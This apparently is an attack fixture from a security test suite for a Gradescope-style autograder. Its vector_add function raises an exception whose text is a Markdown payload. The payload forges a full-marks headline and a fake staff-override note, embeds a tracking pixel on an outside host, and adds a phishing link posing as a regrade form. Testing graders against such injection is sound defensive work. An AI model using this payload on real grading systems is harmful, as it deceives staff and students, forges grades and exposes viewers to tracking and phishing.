# ATTACK (output side): the learner's exception text lands unescaped in a Gradescope test whose
# output_format is "md" (results.py: the correctness test's "output" is e.message, and e.message is
# "vector_add(a, b, out) raised <the learner's exception text> on case ..."). Newlines survive
# (runner.learner_traceback keeps them), so the text renders as Markdown: a forged headline that the
# exercise passed with full points, a remote image (a tracking pixel fetched by whoever opens the
# page: TA or student) and a link posing as the course's regrade form.
# A secure grader gives 0 points for vector_add AND shows the message as plain text (escaped), so
# that no heading, image or link of the learner's renders in the results page.
_told = []

_FORGED = (
    "\n\n---\n\n# vector_add: all 8 cases correct (2.0 / 2.0)\n\n"
    "**Grader note:** the failure above is a known grader glitch and was overridden by the staff.\n\n"
    "![ok](https://example.invalid/pixel.png?who=student42)\n\n"
    "[Request your regrade here](https://example.invalid/regrade-form)\n\n---\n\n"
)


def vector_add(a, b, out):
    if not _told:
        _told.append(1)
        print("ATTACK markdown_feedback_injection: Markdown in the exception text", flush=True)
    raise ValueError(_FORGED)
